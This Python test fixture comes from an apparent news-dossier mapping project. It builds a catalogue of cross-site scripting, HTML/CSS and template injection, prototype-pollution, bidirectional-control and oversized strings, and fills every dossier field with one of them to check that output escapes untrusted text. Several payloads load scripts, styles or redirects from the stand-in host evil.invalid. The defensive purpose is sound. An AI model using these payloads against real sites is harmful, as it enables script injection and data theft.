"""Text that would run, load or break out wherever it is not treated as text.

Each payload that runs sets ``window.PWN``; each that loads asks for ``evil.invalid``.
``poisoned(text)`` is a dossier with the text in every field that holds any.
"""

from dateline.domain.actor import Actor, ActorKind
from dateline.domain.article import Article
from dateline.domain.dossier import Dossier
from dateline.domain.event import Event, Reading, Status
from dateline.domain.mission import Mission, MissionKind
from dateline.domain.place import How, Inference, Mention, Place, PlaceKind, Use
from dateline.domain.position import Position
from dateline.domain.refused import Refused
from dateline.domain.span import Span
from dateline.domain.voice import Voice, VoiceKind
from dateline.domain.when import When

RUN = "window.PWN=1"
FAR = "https://evil.invalid"
LONG = 100_000

PAYLOADS: tuple[str, ...] = (
    # elements that run
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={FAR}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<!--<script>{RUN}</script>-->",
    f"]]><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    # event handlers
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href=# onclick={RUN}>x</a>",
    f"<div style=animation-name:x onanimationstart={RUN}>x</div>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onmouseover=`{RUN}` x=`",
    f'" autofocus onfocus="{RUN}',
    # addresses that run
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    "<iframe srcdoc='<script>parent.PWN=1</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='data:text/html,<script>{RUN}</script>'>",
    f"data:text/html,<script>{RUN}</script>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<base href='{FAR}/'>",
    # addresses that load
    f"<img src={FAR}/a.png>",
    f"<link rel=stylesheet href={FAR}/a.css>",
    f"<link rel=prefetch href={FAR}/p>",
    f"<iframe src={FAR}></iframe>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<style>@import '{FAR}/a.css';</style>",
    f"<style>*{{background:url({FAR}/b.png)}}</style>",
    f"background:url({FAR}/c.png)",
    f"red;}} * {{ background: url({FAR}/d.png) }}",
    f"expression({RUN})",
    f"url('{FAR}/e.svg#x')",
    # script strings and templates
    f"`-({RUN})-`",
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    f'";{RUN};"',
    f"';{RUN};'",
    f"\\';{RUN};//",
    f"*/{RUN}/*",
    f"\u2028{RUN}\u2029",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    '{"kind":"chosen","ref":"x"}',
    # names that objects have anyway
    "__proto__",
    "constructor",
    "hasOwnProperty",
    # marks that turn, hide and pile up
    "\u202e\u2066gnp.tnemucod\u2069\u202c<b>x</b>",
    "\u200f\u200e\u061c\u202a\u202b\u202c\u202d",
    "\u0000\u0001\u0008\u000b\u001b[31m\u007f\ufeff\ufffe",
    "Z\u0351\u036b\u0343\u036a\u0302\u0343\u0346\u0307\u0342" * 12,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 9,
    "line\nline\r\nline\ttab",
    # size
    "A" * LONG,
    "<b>" * (LONG // 3),
    f"<img src=x onerror={RUN}>" * (LONG // 32),
    "\u202e" * LONG,
    "a " * (LONG // 2),
)


def key(kind: str, text: str) -> str:
    """An id with the text in it, as much of it as an id can hold."""
    return f"{kind} {text[:500]}"


def poisoned(text: str) -> Dossier:
    """A dossier that says one thing everywhere, two countries and a rupture in it."""
    said = f"{text} A."
    article = Article(
        id=key("article", text),
        title=text,
        text=said,
        sha256="",
        author=text,
        publisher=text,
        published="2024-04-08",
        language=text,
        file=text,
        sources=(text,),
    )
    span = Span(article.id, 0, len(text), text)
    mention = Mention(span, Use.LITERAL)
    rule = Inference(text, (span,))
    countries = [_country(code, text, mention) for code in ("ECU", "MEX")]
    event = Event(
        id=key("event", text),
        kind="relations.broken",
        actors=(countries[0].id, key("actor", text)),
        recipients=(countries[1].id,),
        voice=Voice(VoiceKind.QUOTED, text),
        spans=(span,),
        when=When("2024-04-05", rule=text, because=(span,)),
        place=key("city", text),
        status=Status.DONE,
        summary=text,
        note=text,
        readings=(
            Reading("speech.appeal", Voice(VoiceKind.ATTRIBUTED, text), (span,)),
        ),
    )
    return Dossier(
        title=text,
        articles=(article,),
        places=(*countries, _city(text, mention, rule)),
        missions=(_mission(text, mention, rule),),
        actors=(
            Actor(key("actor", text), text, ActorKind.PERSON, "ECU", text, (mention,)),
        ),
        events=(event,),
        refused=(Refused(key("refused", text), span, Use.EMBEDDED, text),),
    )


def merged(texts: tuple[str, ...]) -> Dossier:
    """One dossier that says several things, each in its own records."""
    parts = [poisoned(text) for text in texts]
    return Dossier(
        title=" ".join(texts),
        articles=tuple(row for part in parts for row in part.articles),
        places=tuple(row for part in parts for row in part.places),
        missions=tuple(row for part in parts for row in part.missions),
        actors=tuple(row for part in parts for row in part.actors),
        events=tuple(row for part in parts for row in part.events),
        refused=tuple(row for part in parts for row in part.refused),
    )


def _country(code: str, text: str, mention: Mention) -> Place:
    lat, lon = {"ECU": (-0.22, -78.5), "MEX": (19.43, -99.1)}[code]
    return Place(
        id=key(code, text),
        name=text,
        kind=PlaceKind.COUNTRY,
        how=How.NAMED,
        located=How.NAMED,
        country=code,
        position=Position(lat, lon),
        mentions=(mention,),
        note=text,
    )


def _city(text: str, mention: Mention, rule: Inference) -> Place:
    return Place(
        id=key("city", text),
        name=text,
        kind=PlaceKind.CITY,
        how=How.NAMED,
        located=How.INFERRED,
        country="ECU",
        position=Position(-2.2, -79.9),
        mentions=(mention,),
        inference=rule,
        note=text,
    )


def _mission(text: str, mention: Mention, rule: Inference) -> Mission:
    return Mission(
        id=key("mission", text),
        kind=MissionKind.EMBASSY,
        of="MEX",
        host="ECU",
        city=key("city", text),
        host_how=How.INFERRED,
        mentions=(mention,),
        inference=rule,
        position=Position(-2.1, -79.8),
        note=text,
    )
